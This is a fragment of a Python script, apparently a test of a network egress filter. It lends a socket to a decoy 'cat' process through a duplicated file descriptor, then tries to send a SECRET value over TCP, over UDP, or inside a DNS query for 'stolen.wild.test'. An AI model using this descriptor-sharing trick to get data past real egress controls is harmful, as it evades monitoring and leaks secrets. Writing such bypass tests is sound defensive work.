"""lent_socket WAY FAMILY TURN: uses what only another program may.

The program is cat, which holds a socket of ours as long as its input is open.
"""

way, family, turn = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
target = ALLOWED[family]


def lend(lent):
    # High up, so that the decoy holds the socket by the same number.
    os.dup2(lent.fileno(), 100 + lent.fileno(), True)
    kept = socket.socket(fileno=100 + lent.fileno())
    lent.close()
    kept.settimeout(2)
    ours, theirs = os.pipe()
    decoy = subprocess.Popen(["/usr/bin/cat"], stdin=ours, close_fds=False)
    time.sleep(0.2)
    return kept, decoy


def made(kind):
    return socket.socket(FAMILY[family], kind)


if way == "stream":
    lent, decoy = lend(made(socket.SOCK_STREAM))
    attempt(lent.connect, (target, 443))
    attempt(lent.send, SECRET)
elif way == "datagram":
    lent, decoy = lend(made(socket.SOCK_DGRAM))
    for _ in range(3):
        attempt(lent.sendto, SECRET, (target, 7))
        time.sleep(0.05)
elif way == "query":
    lent, decoy = lend(made(socket.SOCK_DGRAM))
    attempt(lent.sendto, query("stolen.wild.test", turn), (RESOLVERS[family], 53))
    message = attempt(lent.recv, 600)
    print("answer", message[3] & 15 if message else None)
decoy.kill()
